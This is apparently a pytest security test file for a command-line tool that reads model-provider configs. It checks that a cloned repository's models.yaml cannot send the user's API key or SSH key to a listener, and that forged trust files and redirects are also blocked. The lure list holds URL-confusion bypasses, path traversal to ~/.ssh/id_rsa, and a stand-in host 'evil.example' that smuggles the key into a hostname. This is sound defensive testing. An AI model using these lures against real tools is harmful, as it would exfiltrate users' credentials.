"""A cloned repository that wants the reader's keys: its server hears nothing, whatever its models.yaml says."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest

from tests.security.loopback import Loopback, Reply, Request, list_of, listening
from tests.tui.cli.conftest import Desk, bare_desk

__all__ = ["bare_desk"]

KEY = "sk-canary-victim-7f3a9c51e2b84d06"
SSH = "-----BEGIN-OPENSSH-canary-93bd0f6a-----"
OWN = """\
providers:
  - provider_id: anthropic-main
    provider_kind: anthropic
    base_url: {own}
    auth_ref: env:VICTIM_KEY
    models: [{{model_id: m}}]
  - provider_id: vendor
    provider_kind: openai
    auth_ref: env:VICTIM_KEY
    enabled: false
    models: [{{model_id: m}}]
"""


@pytest.fixture
def victim(bare_desk: Desk, monkeypatch: pytest.MonkeyPatch) -> Desk:
    """Has keys, and stands in a cloned project."""
    monkeypatch.setenv("VICTIM_KEY", KEY)
    bare_desk.write(SSH, ".ssh/id_rsa")
    bare_desk.write(KEY, "keys/token")
    bare_desk.write("", "clone/.air/shared/models.yaml")
    monkeypatch.chdir(bare_desk.home / "clone")
    return bare_desk


def lures(thief: Loopback) -> dict[str, list[dict[str, Any]]]:
    """What the project's file says; each tries to get a key, or at least a request, to the thief."""
    port, own = thief.port, {"provider_kind": "openai_compatible", "models": [{"model_id": "m"}]}
    new = {"provider_id": "new", "auth_ref": "env:VICTIM_KEY", **own}

    def at(url: str) -> list[dict[str, Any]]:
        return [{**new, "base_url": url}]

    return {
        "base_url of the user's own provider": [{"provider_id": "anthropic-main", "base_url": thief.url}],
        "own provider with another kind": [
            {"provider_id": "anthropic-main", "provider_kind": "ollama", "base_url": thief.url}
        ],
        "a provider of its own": at(f"{thief.url}/v1"),
        "userinfo": at(f"http://api.openai.com@127.0.0.1:{port}/v1"),
        "userinfo with a port": at(f"http://api.openai.com:443@127.0.0.1:{port}/v1"),
        "backslash": at(f"http://127.0.0.1:{port}\\@api.openai.com/v1"),
        "a variable": at(f"http://127.0.0.1:{port}/${{VICTIM_KEY}}"),
        "a variable as host": at("http://${VICTIM_KEY}.evil.example/v1"),
        "numbers as host": at(f"http://2130706433:{port}/v1"),
        "short address": at(f"http://127.1:{port}/v1"),
        "octal address": at(f"http://0177.0.0.1:{port}/v1"),
        "localhost": at(f"http://localhost:{port}/v1"),
        "IPv6 loopback in IPv4": at(f"http://[::ffff:127.0.0.1]:{port}/v1"),
        "trailing dot": at(f"http://localhost.:{port}/v1"),
        "query": at(f"{thief.url}/v1?key=$VICTIM_KEY"),
        "marked as local": [{**new, "base_url": f"{thief.url}/v1", "local": True}],
        "a private key": [{**new, "base_url": f"{thief.url}/v1", "auth_ref": "file:~/.ssh/id_rsa"}],
        "a key file": [{**new, "base_url": f"{thief.url}/v1", "auth_ref": "file:~/keys/token"}],
        "a way around": [{**new, "base_url": f"{thief.url}/v1", "auth_ref": "file:~/keys/../.ssh/id_rsa"}],
        "without a key": [{**new, "base_url": f"{thief.url}/v1", "auth_ref": "none"}],
        "offline mode": [{**new, "base_url": f"{thief.url}/v1", "auth_ref": "mock_x"}],
        "switching on and moving": [{"provider_id": "vendor", "enabled": True, "base_url": f"{thief.url}/v1"}],
        "ollama where the thief listens": [{**new, "provider_kind": "ollama", "base_url": thief.url}],
    }


POLICY = {"allow_online_checks": True, "allow_proxy": True, "unknown_capabilities": "permissive"}
NAMES = tuple(lures(Loopback(1)))
COMMANDS = (
    ("doctor", "--online"),
    ("doctor", "--online", "--json"),
    ("doctor", "--online", "--fix", "--yes"),
    ("matrix",),
    ("select", "execute", "--usable"),
    ("trust", "--json"),
)


def clone(victim: Desk, rows: list[dict[str, Any]]) -> None:
    victim.write(json.dumps({"providers": rows, "policy": POLICY}), "clone/.air/shared/models.yaml")


@pytest.mark.parametrize("name", NAMES)
def test_the_thief_hears_nothing(victim: Desk, name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    read: list[str] = []
    open_ = os.open
    monkeypatch.setattr(os, "open", lambda path, *rest, **more: (read.append(str(path)), open_(path, *rest, **more))[1])
    with listening(list_of("m")) as thief, listening(list_of("m", key=KEY)) as own:
        monkeypatch.setenv("http_proxy", thief.url)
        monkeypatch.setenv("all_proxy", thief.url)
        victim.write(OWN.format(own=own.url))
        clone(victim, lures(thief)[name])
        for words in COMMANDS:
            answer = victim.run(*words)
            assert answer.code in {0, 1}, answer.err
            for secret in (KEY, SSH):
                assert secret not in answer.out + answer.err
        assert (thief.connections, thief.requests) == (0, [])
    assert not [path for path in read if path.endswith((".ssh/id_rsa", "keys/token"))]


def test_the_bait_would_be_taken_once_it_is_trusted(victim: Desk) -> None:
    """So the test above proves something."""
    with listening(list_of("m")) as thief:
        clone(victim, lures(thief)["a provider of its own"])
        victim.run("trust", "new", "--yes")
        victim.run("doctor", "--online")
        assert KEY in thief.requests[0].text


def test_what_was_trusted_rests_again_when_the_repository_changes(victim: Desk) -> None:
    with listening(list_of("m")) as friend, listening(list_of("m")) as thief:
        clone(victim, lures(friend)["a provider of its own"])
        victim.run("trust", "new", "--yes")
        clone(victim, lures(thief)["a provider of its own"])
        answer = victim.run("doctor", "--online")
        assert "not checked: not trusted" in answer.out
        assert thief.connections == 0


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_a_trusted_server_cannot_send_the_key_on(victim: Desk, status: int) -> None:
    with listening(list_of("m")) as thief:

        def away(request: Request) -> Reply:
            return Reply(status, b"", {"location": f"{thief.url}{request.path}"})

        with listening(away) as turncoat:
            clone(victim, lures(turncoat)["a provider of its own"])
            victim.run("trust", "new", "--yes")
            answer = victim.run("doctor", "--online")
    assert "error[endpoint-redirect]" in answer.out
    assert thief.connections == 0


def test_a_file_opened_alone_is_a_stranger_too(victim: Desk) -> None:
    with listening(list_of("m")) as thief:
        path = victim.write(json.dumps({"providers": lures(thief)["a provider of its own"]}), "mail/models.yaml")
        answer = victim.run("doctor", path, "--online")
        assert "not checked: not trusted" in answer.out
        assert thief.connections == 0


def test_a_repository_cannot_bring_its_own_agreement(victim: Desk) -> None:
    with listening(list_of("m")) as thief:
        clone(victim, lures(thief)["a provider of its own"])
        victim.run("trust", "new", "--yes")
        agreed = (victim.home / ".air" / "trust.yaml").read_text()
        victim.run("untrust", "--all")
        for place in ("clone/.air/trust.yaml", "clone/.air/shared/trust.yaml", "clone/trust.yaml"):
            victim.write(agreed, place)
        victim.run("doctor", "--online")
        assert thief.connections == 0


def test_the_users_own_provider_still_works_beside_it(victim: Desk, tmp_path: Path) -> None:
    with listening(list_of("m", key=KEY)) as own, listening(list_of("m")) as thief:
        victim.write(OWN.format(own=own.url).replace("anthropic\n", "openai_compatible\n", 1))
        clone(victim, lures(thief)["a provider of its own"])
        answer = victim.run("doctor", "--online")
    assert "anthropic-main  endpoint answered (200" in answer.out
    assert KEY in own.requests[0].text
    assert thief.connections == 0
